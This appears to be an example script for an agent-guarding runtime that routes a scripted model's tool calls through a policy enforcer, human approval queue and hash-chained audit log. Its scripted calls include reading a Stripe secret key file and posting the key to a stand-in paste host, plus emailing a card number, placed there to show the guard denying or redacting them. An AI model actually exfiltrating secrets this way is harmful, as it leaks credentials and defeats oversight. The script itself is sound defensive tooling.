#!/usr/bin/env node
// An agent guarded by @agent-armor/runtime. A scripted stand-in for the model proposes tool
// calls; every call goes through the enforcer, which allows, denies, asks a (scripted) support
// lead for approval, or rewrites the call before it runs. Every decision lands in a hash-chained
// audit log, verified at the end.
//
//   node examples/agent/agent.mjs [AUDIT_FILE]      (after `npm run build`)
import { mkdirSync, rmSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { ActionDenied, createApprovalQueue, createEnforcer, verifyAuditLog } from "@agent-armor/runtime";

const here = dirname(fileURLToPath(import.meta.url));
const auditFile = process.argv[2] ?? join(here, "..", "..", "out", "examples", "agent", "audit.jsonl");
mkdirSync(dirname(auditFile), { recursive: true });
rmSync(auditFile, { force: true });

// ---- the tools (stand-ins for real integrations) -------------------------------------------
const outbox = [];
const tools = {
  lookup_order: async ({ order }) => ({ order, customer: "dana@example.com", total: 420 }),
  refund: async ({ order, amount }) => `refunded ${amount} on ${order}`,
  send_email: async ({ to, body }) => {
    outbox.push({ to, body });
    return `sent to ${to}`;
  },
  read_file: async ({ path }) => `contents of ${path}`,
  http_post: async ({ url }) => `posted to ${url}`,
};

// ---- a support lead who answers approval requests -------------------------------------------
const approvals = createApprovalQueue({
  onRequest: (req) => {
    // the lead approves refunds up to 500 and rejects the rest; a real UI would list
    // approvals.pending() and call approve/reject when a person decides
    const ok = req.action.amount <= 500;
    setTimeout(() => (ok ? approvals.approve(req.id, "lee (support lead)", "customer is a regular") : approvals.reject(req.id, "lee (support lead)", "ask finance")), 10);
  },
});

const enforcer = await createEnforcer({
  policy: join(here, "policy.armor"), // compiled on load
  approvals,
  audit: { file: auditFile, fsync: true },
});
const guarded = enforcer.wrapTools(tools, { session: "conversation-42", user: { id: "agent-7", role: "support" } });

// ---- the scripted "model": what it proposes, turn by turn -----------------------------------
const script = [
  ["lookup_order", { order: "A-1001" }],
  ["refund", { order: "A-1001", amount: 40 }],
  ["refund", { order: "A-1001", amount: 250 }],
  ["refund", { order: "A-1002", amount: 800 }],
  ["refund", { order: "A-1003", amount: 5000 }],
  ["send_email", { to: "dana@example.com", body: "Refunded to card 4111 1111 1111 1111. Thanks!" }],
  ["send_email", { to: "dana@example.com", body: "Follow-up: anything else?" }],
  ["send_email", { to: "dana@example.com", body: "Survey link" }],
  ["send_email", { to: "dana@example.com", body: "One more thing" }],
  ["read_file", { path: "/srv/secrets/stripe.key" }],
  ["http_post", { url: "https://paste.example.net", body: "sk_live_..." }],
];

for (const [tool, args] of script) {
  const call = `${tool}(${JSON.stringify(args)})`;
  try {
    const result = await guarded[tool](args);
    console.log(`allow  ${call}\n       -> ${typeof result === "string" ? result : JSON.stringify(result)}`);
  } catch (e) {
    if (!(e instanceof ActionDenied)) throw e;
    const d = e.decision;
    const why = [...d.rules.filter((r) => r.effect !== "allow" && r.effect !== "redact").map((r) => `${r.id}: ${r.reason}`), ...d.errors.map((x) => x.message)];
    console.log(`deny   ${call}\n       -> ${why.join("; ")}`);
  }
}
await enforcer.close();

console.log(`\noutbox (what actually left):`);
for (const m of outbox) console.log(`  to ${m.to}: ${m.body}`);

const log = await readFile(auditFile, "utf8");
const verified = verifyAuditLog(log);
console.log(`\naudit log ${auditFile}: ${verified.records} records, chain ${verified.ok ? "intact" : `BROKEN: ${verified.problem?.message}`}`);
for (const line of log.trim().split("\n")) {
  const r = JSON.parse(line);
  if (r.kind === "decision") {
    const approval = r.approval ? ` approval=${r.approval.outcome}${r.approval.approver ? ` by ${r.approval.approver}` : ""}` : "";
    console.log(`  #${r.seq} ${r.action.type.padEnd(12)} ${r.decision.padEnd(6)} ${r.rules.map((x) => x.id).join(",") || "-"}${approval}`);
  } else console.log(`  #${r.seq}   outcome ${r.outcome} (${r.durationMs} ms)`);
}
process.exitCode = verified.ok ? 0 : 1;
